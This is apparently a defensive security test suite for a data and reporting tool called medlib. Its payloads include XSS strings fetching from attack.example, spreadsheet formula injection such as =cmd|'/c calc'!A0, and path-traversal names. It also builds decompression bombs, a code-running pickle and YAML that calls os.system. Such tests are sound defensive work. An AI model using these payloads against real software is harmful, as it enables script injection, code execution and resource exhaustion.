"""Attacks on the software: code in names and texts, ways out of a folder, files that unpack to more than there is memory.

Pages that run code or fetch something are looked for twice: in their text, and, where there is a browser, by opening them (`open_page`).
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import pickle
import re
import struct
import sys
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

import numpy as np
import pandas as pd

from medlib import cli, tables
from medlib.errors import MedlibError
from medlib.intake import check_folder, read_folder, write_template
from medlib.report.browser import find_browser, open_tab

#: This is a fault only where the data say it; people may link to what they like.
LINKED = "[x](https://attack.example)"
#: What runs in a browser, fetches from elsewhere, or leads there in disguise; `pwned` tells whether it has run.
EVIL = (
    "<script>window.pwned=1</script>", "<ScRiPt src=https://attack.example/x.js></sCrIpT>", "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>", "<a href=\"javascript:window.pwned=1\">x</a>",
    "<a href=\"java\tscript:window.pwned=1\">x</a>", "<a href=\"data:text/html,<script>window.pwned=1</script>\">x</a>", "[x](javascript:window.pwned=1)",
    LINKED, "![x](https://attack.example/x.png)", "<img src=https://attack.example/x.png>", "<img srcset=\"https://attack.example/x 2x\">",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", "<style>@import url(https://attack.example/x.css);</style>",
    "<p style=\"background:url(https://attack.example/x)\">x</p>", "<meta http-equiv=refresh content=\"0;url=https://attack.example\">",
    "<base href=https://attack.example/>", "<form action=https://attack.example><button>x</button></form>", "<link rel=stylesheet href=https://attack.example/x>",
    "<object data=https://attack.example></object><embed src=https://attack.example>", "<details open ontoggle=window.pwned=1>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\"></noscript>", "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
    "\" onmouseover=\"window.pwned=1\" x=\"", "</title><script>window.pwned=1</script>", "</td></tr></table><script>window.pwned=1</script>",
    "$\\href{javascript:window.pwned=1}{x}$", "\\(\\unicode{<img src=x onerror=window.pwned=1>}\\)", "${jndi:x}$body", "\\1\\g<9>")
FORMULAS = ("=1+1", "=cmd|'/c calc'!A0", "+1", "-1+1", "@SUM(A1)", "＝1", "'=1", "''+1")
ALLOWED = re.compile(r"https?://(?!attack)\S+|#[\w-]*|notebooks/[\w.-]+\.ipynb")


class Told(Exception):
    """An attack got through."""


def _insist(held: bool, told: str) -> None:
    if not held:
        raise Told(told)


@contextlib.contextmanager
def _refused(told: str) -> Iterator[None]:
    """Expect one clear sentence."""
    try:
        yield
    except MedlibError as error:
        _insist("\n" not in str(error), f"{told}: more than a sentence")
    else:
        raise Told(told)


def _type(folder: Path, *words: str) -> tuple[int, str]:
    """Run the command line in a folder; returns the exit code and all that it printed."""
    stream = io.TextIOWrapper(io.BytesIO(), "utf-8", errors="surrogateescape")
    with (contextlib.chdir(folder), contextlib.redirect_stdout(stream), contextlib.redirect_stderr(stream),
          mock.patch.object(sys, "argv", ["medlib", *map(str, words)])):
        try:
            cli.main()
            code = 0
        except SystemExit as end:
            code = end.code or 0
    stream.flush()
    return code, stream.buffer.getvalue().decode("utf-8", "replace")


def make_evil_page(folder: Path) -> Path:
    """Write a report of a run in which every name, text and output is an attack."""
    import nbformat
    from nbformat import v4

    from medlib.explain.words import format_table
    from medlib.report.page import write_page
    outputs = []
    for text in EVIL:
        frame = pd.DataFrame({"site": [text], "units": [-1.5]})
        kinds = {"text/html": [text, format_table(frame), f"<table><tr><td>{text}</td></tr></table>"], "text/markdown": [text, f"## {text}"], "text/latex": [text],
                 "text/plain": [text], "application/javascript": ["window.pwned=1"], "image/svg+xml": [f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>"]}
        outputs += [v4.new_output("display_data", {kind: data}) for kind, several in kinds.items() for data in several]
    outputs.append(v4.new_output("display_data", {"text/html": "<script>window.pwned=1</script>"}, metadata={"text/html": {"isolated": True}}))
    cells = [v4.new_markdown_cell(f"# A report {EVIL[0]}"), v4.new_markdown_cell("## What was asked\n\n" + "\n\n".join(text for text in EVIL if text != LINKED)),
             v4.new_code_cell("", outputs=outputs), v4.new_markdown_cell("## Sources\n\n[their page](https://example.org/)")]
    (folder / "notebooks").mkdir()
    nbformat.write(v4.new_notebook(cells=cells), folder / "notebooks" / "50_report.ipynb")
    source = dict.fromkeys(("dataset", "title", "source", "licence", "sha256", "attribution", "file", "notes"), EVIL[2]) | {"rows": 1, "synthetic": True}
    manifest = {"run": EVIL[0], "status": "done", "started": EVIL[1], "seconds": 1.0, "seed": 1, "git_commit": EVIL[2], "datasets": [source], "ladder": {},
                "notebooks": [{"name": "50_report", "status": EVIL[0], "seconds": 1.0}], "versions": {EVIL[0]: EVIL[2]},
                "parameters": {name: text for name, text in zip(EVIL, EVIL[::-1])}}
    return write_page(folder, manifest)


def find_danger(page: str) -> list[str]:
    """List the elements and attributes of a page that run, fetch or lead away."""
    from bs4 import BeautifulSoup
    found = []
    for element in BeautifulSoup(page, "html.parser").find_all():
        if element.name in ("script", "iframe", "object", "embed", "base", "form", "link", "svg", "math", "frame", "noscript", "template", "details"):
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            if name.startswith("on") or name in ("style", "srcset", "srcdoc", "action", "formaction", "xlink:href", "data", "poster", "ping"):
                found.append(f"{element.name} {name}")
            if name == "src" and not str(value).startswith("data:image/") or name == "href" and not ALLOWED.fullmatch(str(value)):
                found.append(f"{element.name} {name}={value}"[:80])
        if element.name == "meta" and str(element.get("http-equiv", "")).lower() not in ("", "content-security-policy"):
            found.append("meta refresh")
    return found


@dataclass
class Opened:
    """What a browser saw in a page."""

    pwned: bool
    requests: list[str]
    complaints: list[str]
    policy: str
    styled: bool


def open_page(page: Path, browser: str) -> Opened:
    """Open a page from the disk, touch every element of it, and tell what happened."""
    with open_tab(page, browser) as visit:
        visit.tab.evaluate("() => document.querySelectorAll('main *').forEach(each => each.dispatchEvent(new Event('mouseover')))")
        visit.tab.wait_for_timeout(300)
        policy = visit.tab.evaluate("() => document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content ?? ''")
        return Opened(bool(visit.tab.evaluate("() => window.pwned")), visit.requests, visit.complaints, policy,
                      visit.tab.evaluate("() => getComputedStyle(document.querySelector('.page')).display") == "grid")


def attack_lab(folder: Path) -> None:
    """JupyterLab as `make lab` starts it, asked without its token and by another address of this machine."""
    import urllib.error
    import urllib.request

    from trust.lab import start_lab
    try:
        with start_lab(folder) as server:
            _insist("127.0.0.1" in server["url"] and len(server["token"]) >= 32, f"it listens at {server['url']}, with a token of {len(server['token'])} signs")
            address = f"http://127.0.0.1:{server['port']}/api/contents"
            try:
                answer = urllib.request.urlopen(address, timeout=20).status
            except urllib.error.HTTPError as error:
                answer = error.code
            _insist(answer == 403, f"without a token it answers {answer}")
            asked = urllib.request.Request(address, headers={"Authorization": f"token {server['token']}"})
            _insist(urllib.request.urlopen(asked, timeout=20).status == 200, "with its token it does not answer")
            with contextlib.suppress(OSError):  # refused, as it should be
                urllib.request.urlopen(address.replace("127.0.0.1", "127.0.0.2"), timeout=5)
                raise Told("it answers at another address")
    except TimeoutError as error:
        raise Told(str(error)) from None


def attack_page(folder: Path) -> None:
    """HTML, Markdown and LaTeX in every place of a report."""
    page = make_evil_page(folder).read_text(encoding="utf-8")
    _insist(not find_danger(page), f"the page holds {', '.join(find_danger(page)[:3])}")
    _insist("attack.example" in page and "default-src 'none'" in page, "the attack was lost on its way, or the page has no policy")


def attack_browser(folder: Path) -> None:
    """The same page, opened."""
    if browser := find_browser():  # where there is none, `attack_page` alone has to do
        seen = open_page(make_evil_page(folder), browser)
        _insist(not seen.pwned, "a script ran")
        _insist(not seen.requests, f"the page asked for {seen.requests[:1]}")
        _insist(not seen.complaints, f"the browser complained: {seen.complaints[:1]}")


def attack_policy(folder: Path) -> None:
    """A page into which somebody has put a script afterwards, as if the cleaning had failed. (No policy forbids a page to lead elsewhere.)"""
    page = make_evil_page(folder)
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("</main>", "".join(text for text in EVIL if "refresh" not in text) + "</main>"), encoding="utf-8")
    if browser := find_browser():
        seen = open_page(page, browser)
        _insist(not seen.pwned and not [url for url in seen.requests if not url.startswith("about:")],
                f"the policy let through: pwned {seen.pwned}, {seen.requests[:2]}")


def attack_charts(folder: Path) -> None:
    """Site names that are broken formulas of TeX would stop a chart, and with it the report."""
    import matplotlib.pyplot as plt

    from medlib import plots
    names = ["$\\frac{$", "$\\href{x}$ $", "a $5 and $6"]
    expected = pd.DataFrame({"date": pd.Timestamp("2024-01-01"), "site": names, "resource": "bed", "shortage_before": [1.0, 2.0, 3.0]})
    sites = pd.DataFrame({"site": names, "latitude": [1.0, 2.0, 3.0], "longitude": [1.0, 3.0, 2.0]})
    moves = pd.DataFrame({"origin": names[:1], "destination": names[1:2], "amount": [2.0]})
    for draw in (lambda: plots.plot_shortage(expected, "shortage_before"),
                 lambda: plots.plot_transfers(moves, sites, expected.set_index("site")["shortage_before"])):
        try:
            ax = draw()
            ax.figure.canvas.draw()
        except ValueError as error:
            raise Told(f"a name stops a chart: {str(error).strip().splitlines()[-1]}") from None
        finally:
            plt.close("all")


def _make_sheet_folder(folder: Path) -> list[str]:
    """A folder whose sites are called like formulas; the texts in it are quoted as CSV wants."""
    write_template(folder)
    renamed = dict(zip(("north", "centre", "south"), FORMULAS[1:4]))
    for path in folder.glob("*.csv"):
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        for name in ("site", "origin", "destination"):
            if name in table:
                table[name] = table[name].replace(renamed)
        table.to_csv(path, index=False)
    return list(renamed.values())


def _find_formulas(folder: Path) -> list[str]:
    texts = [path.read_bytes().decode() for path in folder.glob("*.csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if re.match(r"[\t\r\n]|\s*[=+\-@＝＋－＠]", cell) and not re.fullmatch(r"-?[0-9.e-]+", cell)]


def attack_sheets(folder: Path) -> None:
    """Sites named like formulas, through every command that writes CSV for people."""
    sites = _make_sheet_folder(folder / "in")
    tables_in, problems = check_folder(folder / "in")
    _insist(problems.empty, f"the names were refused: {problems.head(1).to_dict('records')}")
    for words, out in ((("export", folder / "in", folder / "out"), "out"), (("allocate", folder / "in", "--output", folder / "plan"), "plan")):
        code, said = _type(folder, *words)
        _insist(code == 0, f"{words[0]} failed: {said[-200:]}")
        _insist(not _find_formulas(folder / out), f"{words[0]} wrote {_find_formulas(folder / out)[:1]}")
    back = read_folder(folder / "out")
    _insist(sorted(back["sites"]["site"]) == sorted(sites), f"the sites came back as {back['sites']['site'].tolist()}")
    _insist(back["demand"]["demand"].equals(tables_in["demand"]["demand"]), "numbers came back changed")
    from medlib.intake.sheets import format_csv
    odd = format_csv(pd.DataFrame({"=x": ["\t=1", "\r=1", *FORMULAS], "n": np.arange(2.0 + len(FORMULAS)) - 5}))
    (folder / "odd").mkdir()
    (folder / "odd" / "odd.csv").write_text(odd, encoding="utf-8", newline="")
    _insist(not _find_formulas(folder / "odd") and ",-5.0" in odd, f"{_find_formulas(folder / 'odd')[:1]} would run, or negative numbers are texts")
    _insist("to_csv" not in Path(cli.__file__).read_text(encoding="utf-8"), "the command line writes CSV past the guard")


NAMES = ("../x", "../../etc/x", "/tmp/x", "a/b", "a\\b", "..", ".", "...", "~", "~root", "a\0b", "a\n", " a", "a ", "Ａ", "a․b", "a／b", "-rf", "$HOME", "CON",
         "nul.txt", "com1", "a.", "C:x", "a" * 300)


def attack_runs(folder: Path) -> None:
    """Names of runs that lead out of reports/, or that Windows takes for devices."""
    from medlib.report import start_run
    reports = folder / "project" / "reports"
    reports.mkdir(parents=True)
    for name in NAMES:
        with (mock.patch("medlib.report.run.REPORTS", reports), mock.patch("medlib.tables.PROJECT", reports.parent), mock.patch("medlib.report.run.execute_notebook", side_effect=AssertionError),
              _refused(f"a run may be called {name[:20]!r}")):
            start_run({}, ["50_report"], name)
    _insist({path.relative_to(folder).as_posix() for path in folder.rglob("*") if ".locks" not in path.parts} <= {"project", "project/reports"}, "something was written")


def attack_notebooks(folder: Path) -> None:
    """Names of notebooks that lead elsewhere: only the workbench's own run."""
    from medlib.report.pipeline import NOTEBOOKS, list_notebooks, order_chain
    known = list_notebooks()
    (folder / "66_evil.ipynb").write_text("{}")
    for target in (str(folder / "66_evil.ipynb"), "../66_evil", "66_evil", *NAMES):
        with _refused(f"the notebook {target[:40]!r} would run"):
            order_chain([target], known)
    _insist(all(notebook.path.parent == NOTEBOOKS for notebook in order_chain(["../../evil/50_report.ipynb"], known)), "a path chose the notebook")


def attack_datasets(folder: Path) -> None:
    """Names of datasets that are no folders of tables."""
    from medlib.catalog import load_dataset
    for name in ("", *NAMES[:4], "~root", "a\0b", "a" * 5000, "/etc", "/dev", "sample\0", "SAMPLE", "file:///etc", "sample/../../etc"):
        with contextlib.chdir(folder), _refused(f"the dataset {name[:20]!r} was loaded"):
            load_dataset(name)
    for team in ("../../x", "a/b", "..", "a\0b"):
        code, _ = _type(folder, "export-hub", folder, folder / "out", "2023-10-14", "--team", team)
        _insist(code == 2 and not (folder / "out").exists(), f"the team {team!r} was taken")


def attack_links(folder: Path) -> None:
    """Tables that are links to files elsewhere, whose lines the list of problems would show; and links where files are to be written."""
    secret, mine = folder / "secret.csv", folder / "mine"
    secret.write_text("site,latitude,longitude\nHUSH,HUSH,HUSH\n")
    write_template(mine)
    (mine / "sites.csv").unlink()
    (mine / "sites.csv").symlink_to(secret)
    got, problems = check_folder(mine)
    _insist("sites" not in got and "HUSH" not in problems.to_csv(), "a linked file was read")
    workspace = folder / "tables"
    frame = pd.DataFrame({"site": ["a"], "latitude": [1.0], "longitude": [2.0]})
    outside = tables.write(frame, "sites", folder / "elsewhere")
    workspace.mkdir()
    (workspace / "sites.parquet").symlink_to(outside)
    with _refused("a table was read through a link out of the workspace"):
        tables.read("sites", workspace)
    before = outside.read_bytes()
    with contextlib.suppress(MedlibError):
        tables.write(frame.assign(latitude=3.0), "sites", workspace)
    _insist(outside.read_bytes() == before, "a table was written through a link")
    (folder / "run").mkdir()
    (folder / "run" / ".report.html.part").symlink_to(secret)
    make_evil_page(folder / "run")
    _insist("HUSH" in secret.read_text(), "the page was written through a link")


def attack_with_zip(folder: Path) -> None:
    """Gzip files that unpack to gigabytes, in the mirror and among hub data."""
    from medlib.catalog import CATALOG, fetch
    from medlib.forecast.hub import read_hub_folder
    piece = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = (piece.compress(bytes(30_000_000)) + piece.flush()) * 100
    entry = CATALOG["tx_icu"]
    place = folder / "mirror" / (entry.mirror or entry.name)
    place.mkdir(parents=True)
    (place / f"{entry.file}.gz").write_bytes(bomb)
    with mock.patch.dict(os.environ, MEDLIB_MIRROR=str(folder / "mirror")), mock.patch("medlib.catalog.source.CACHE", folder / "cache"), _refused("a bomb was unpacked"):
        fetch(entry)
    hub = folder / "hub"
    hub.mkdir()
    (hub / "locations.csv").write_text("location,location_name,population\n01,A,100000\n")
    pd.DataFrame({"as_of": ["2023-10-11"], "date": ["2023-10-07"], "location": ["01"], "value": [3.0]}).to_parquet(hub / "target_vintages.parquet")
    (hub / "ilinet_state.csv.gz").write_bytes(bomb)
    with _refused("a bomb was unpacked among hub data"):
        read_hub_folder(hub)


def attack_with_parquet(folder: Path) -> None:
    """Parquet files of some kilobytes that hold a terabyte of text, a billion numbers, or a list without end."""
    import pyarrow as pa
    import pyarrow.parquet as pq
    long = pa.DictionaryArray.from_arrays(pa.array(np.zeros(1_000_000, np.int32)), pa.array(["x" * 1_000_000]))
    bombs = {"text": pa.table({"site": long}), "list": pa.table({"site": pa.array([[0] * 1_000_000], pa.list_(pa.int8()))}),
             "rows": pa.table({"site": pa.DictionaryArray.from_arrays(pa.array(np.zeros(20_000_000, np.int8)), pa.array(["x"]))})}
    for name, table in bombs.items():
        pq.write_table(table, folder / "sites.parquet", compression="zstd")
        got, problems = check_folder(folder)
        said = " ".join(problems.loc[problems["file"] == "sites.parquet", "expected"])
        _insist("sites" not in got and ("unpacks" in said or "one text" in said), f"the bomb of {name} was read: {said[:100]}")
        with _refused(f"the bomb of {name} was read from a workspace"):
            tables.read("sites", folder)


def attack_with_picture(folder: Path) -> None:
    """A picture of some bytes that claims billions of pixels."""
    from medlib.recognise.photos import read_photo
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    block = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    (folder / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n" + block(b"IHDR", head) + block(b"IDAT", zlib.compress(bytes(9))) + block(b"IEND", b""))
    with _refused("a bomb was unpacked"):
        read_photo(folder / "x.png", 16)


class _Bait:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


def attack_with_pickle(folder: Path) -> None:
    """Files that run code when they are unpickled, in the place of weights, tables, pictures and parameters."""
    import torch

    from medlib.recognise.photos import read_photo
    from medlib.recognise.pictures import PictureClassifier
    mark = folder / "pwned"
    pickle.loads(pickle.dumps(_Bait(mark)))
    assert mark.exists(), "the bait itself does not work"
    mark.unlink()
    torch.save({"kind": "PictureClassifier", "weights": _Bait(mark)}, folder / "weights.pt")
    with _refused("weights with code were loaded"):
        PictureClassifier.load(folder / "weights.pt")
    for name in ("sites.parquet", "demand.csv", "x.png"):
        (folder / name).write_bytes(pickle.dumps(_Bait(mark)))
    check_folder(folder)
    with _refused("a pickle was read as a table"):
        tables.read("sites", folder)
    with _refused("a pickle was read as a picture"):
        read_photo(folder / "x.png", 16)
    _insist(not mark.exists(), "code in a pickle ran")


def attack_with_yaml(folder: Path) -> None:
    """Parameter files that call functions, or unfold to billions of words."""
    laughs = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"a{n + 1}: &a{n + 1} [{','.join([f'*a{n}'] * 9)}]\n" for n in range(9)) + "horizon: *a9\n"
    for text in (f"title: !!python/object/apply:os.system ['touch {folder}/pwned']", "title: !!python/name:os.system", laughs, "horizon: " + "[" * 10_000,
                 "horizon: 0x" + "f" * 9999):
        (folder / "mine.yaml").write_text(text)
        code, said = _type(folder, "report", "-f", "mine.yaml")
        _insist(code == 2 and len(said) < 3000 and "Traceback" not in said, f"{text[:40]!r} gave {said[-100:]!r}")
    _insist(not (folder / "pwned").exists(), "code in a parameter file ran")


def attack_parameters(folder: Path) -> None:
    """Parameters that would be code in the executed notebook."""
    import ast

    from papermill.translators import papermill_translators

    from medlib.report.secrets import register_translator
    register_translator()
    texts = ['"\nimport os\n#', "'; import os #", '"""; import os; """', "\\", "\\\"", "{x}", "__import__('os')", "\u2028import os", "\r\nimport os", *EVIL]
    for text in texts:
        code = papermill_translators.find_translator("python3", "python").codify({"title": text})
        nodes = [node for node in ast.parse(code).body if not isinstance(node, ast.Assign)]
        _insist(not nodes and ast.literal_eval(ast.parse(code).body[-1].value) == text, f"{text[:30]!r} becomes code or another text")


def attack_terminal(folder: Path) -> None:
    """Escape sequences, lines and turned writing in names of files, cells and words, which would rewrite what the reader sees."""
    evil = "\x1b[2J\x1b]0;x\x07\u202e"
    mine, photos = folder / f"mine{evil}", folder / "photos"
    write_template(mine)
    sites = mine / "sites.csv"
    sites.write_text(sites.read_text().replace("North Hospital", f"{evil}North").replace("54.10", evil), encoding="utf-8")
    (mine / f"sitse{evil}.csv").write_text("x")
    photos.mkdir()
    (photos / f"x{evil}.png").write_bytes(b"no picture")
    for words in (("check", mine), ("allocate", mine), ("report", "--dataset", mine), ("report", "-p", f"horizon={evil}"), ("report", "-p", f"{evil}=1"),
                  ("run", evil), ("report", "--run-name", evil), ("report", "-f", mine / evil), ("export", evil, "out"), ("allocate", mine, "-p", evil),
                  ("label-photos", photos / f"x{evil}.png", photos, "--output", "x.csv")):
        code, said = _type(folder, *words)
        _insist(code != 0 and all(letter.isprintable() or letter == "\n" for letter in said), f"{words[0]} printed {said[:80]!r}")


def attack_heads(folder: Path) -> None:
    """Names of several lines that would forge a section of the report."""
    write_template(folder / "in")
    sites = folder / "in" / "sites.csv"
    sites.write_text(sites.read_text().replace("North Hospital (made up)", '"x\n\n## Approved by the ministry"'))
    _, problems = check_folder(folder / "in")
    _insist("in one line" in " ".join(problems["expected"]), "a name may have several lines")


def _catch(attack: Callable[[Path], None]) -> Callable[[Path], str]:
    def carry_out(folder: Path) -> str:
        try:
            attack(folder)
        except Told as told:
            return str(told)
        return ""
    return carry_out


ATTACKS: dict[str, Callable[[Path], str]] = {name: _catch(attack) for name, attack in {
    "HTML, scripts, Markdown and LaTeX on the report page": attack_page, "the same page in a browser": attack_browser,
    "a script put into the page past the cleaning": attack_policy, "broken formulas in the labels of charts": attack_charts,
    "names of several lines that forge a section": attack_heads, "spreadsheet formulas in exported CSV": attack_sheets,
    "run names that lead out of reports/": attack_runs, "notebook names that lead elsewhere": attack_notebooks,
    "dataset and team names that lead elsewhere": attack_datasets, "links out of folders, workspaces and runs": attack_links,
    "gzip bombs": attack_with_zip, "Parquet bombs": attack_with_parquet, "picture bombs": attack_with_picture, "pickles with code": attack_with_pickle,
    "code and bombs in parameter files": attack_with_yaml, "parameters that become code": attack_parameters,
    "escape sequences in the terminal": attack_terminal, "JupyterLab without its token": attack_lab}.items()}
